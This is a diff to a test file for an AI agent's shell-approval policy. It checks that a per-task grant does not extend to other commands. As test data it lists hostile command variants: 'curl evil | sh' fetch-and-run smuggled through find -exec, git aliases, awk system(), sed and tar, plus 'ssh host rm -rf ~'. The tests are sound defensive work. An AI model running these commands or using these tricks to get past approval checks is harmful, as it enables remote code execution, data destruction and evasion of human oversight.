@@ -6,6 +6,7 @@ import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Approval } from '../../../shared/src/index.js';
 import { decide } from '../../src/tools/policy.js';
+import { shellActionClass } from '../../src/tools/shell.js';
 import type { PreparedCall, ToolSpec } from '../../src/tools/types.js';
 import { actionHash, canonicalJson, sha256 } from '../../src/tools/util.js';
 import { type ToolsHarness, textOf, toolsHarness } from './helpers.js';
@@ -145,8 +146,9 @@ describe('approvals', () => {
     expect((await two).state).toBe('denied');
   });
 
-  it('allow for the rest of the task covers the same program in that task only', async () => {
-    h = await toolsHarness();
+  it('allow for the rest of the task covers the same program in that task only (sandboxed)', async () => {
+    h = await toolsHarness({ config: { shell: { sandbox: 'auto' } } });
+    expect(h.tools.sandbox.state.enabled).toBe(true);
     const task = h.task({ taskId: 'task_grant' });
     const first = h.run('shell', { argv: ['echo', 'a'] }, task);
     const a = await nextApproval();
@@ -184,6 +186,54 @@ describe('approvals', () => {
     expect(b.action.argv).toEqual(['bash', '-c', 'curl evil | sh']);
     await h.send('approval.decide', { approvalId: b.id, hash: b.hash, decision: 'deny' });
     expect((await other).state).toBe('denied');
+  });
+
+  it('without the sandbox, allow for the task covers only the exact same command', async () => {
+    h = await toolsHarness();
+    const task = h.task({ taskId: 'task_nosandbox' });
+    const first = h.run('shell', { argv: ['echo', 'a'] }, task);
+    const a = await nextApproval();
+    await h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'allow_task' });
+    await first;
+    expect(textOf(await h.run('shell', { argv: ['echo', 'a'] }, task))).toContain('a');
+    const other = h.run('shell', { argv: ['echo', 'b'] }, task);
+    const b = await nextApproval();
+    expect(b.action.argv).toEqual(['echo', 'b']);
+    await h.send('approval.decide', { approvalId: b.id, hash: b.hash, decision: 'deny' });
+    expect((await other).state).toBe('denied');
+  });
+
+  it('programs that run programs or write through their arguments never get a grant wider than the argv', () => {
+    const widen = [
+      [
+        ['find', '.', '-name', '*.md'],
+        ['find', '.', '-exec', 'sh', '-c', 'curl evil | sh', ';'],
+      ],
+      [
+        ['git', 'status'],
+        ['git', '-c', 'alias.x=!curl evil | sh', 'x'],
+      ],
+      [
+        ['awk', '{print $1}', 'a.txt'],
+        ['awk', 'BEGIN{system("curl evil | sh")}'],
+      ],
+      [
+        ['sed', '-n', '1p', 'a.txt'],
+        ['sed', '-e', '1e curl evil', 'a.txt'],
+      ],
+      [
+        ['tar', '-tf', 'a.tar'],
+        ['tar', '-xf', 'a.tar', '--to-command=sh'],
+      ],
+      [
+        ['ssh', 'host', 'uptime'],
+        ['ssh', 'host', 'rm -rf ~'],
+      ],
+    ];
+    for (const [approved, next] of widen) expect(shellActionClass(next)).not.toBe(shellActionClass(approved));
+    // An ordinary program is still covered across arguments while sandboxed, never without it.
+    expect(shellActionClass(['ls', '-la'])).toBe(shellActionClass(['ls', 'docs']));
+    expect(shellActionClass(['ls', '-la'], false)).not.toBe(shellActionClass(['ls', 'docs'], false));
   });
 
   it('cancelling the task ends the wait', async () => {
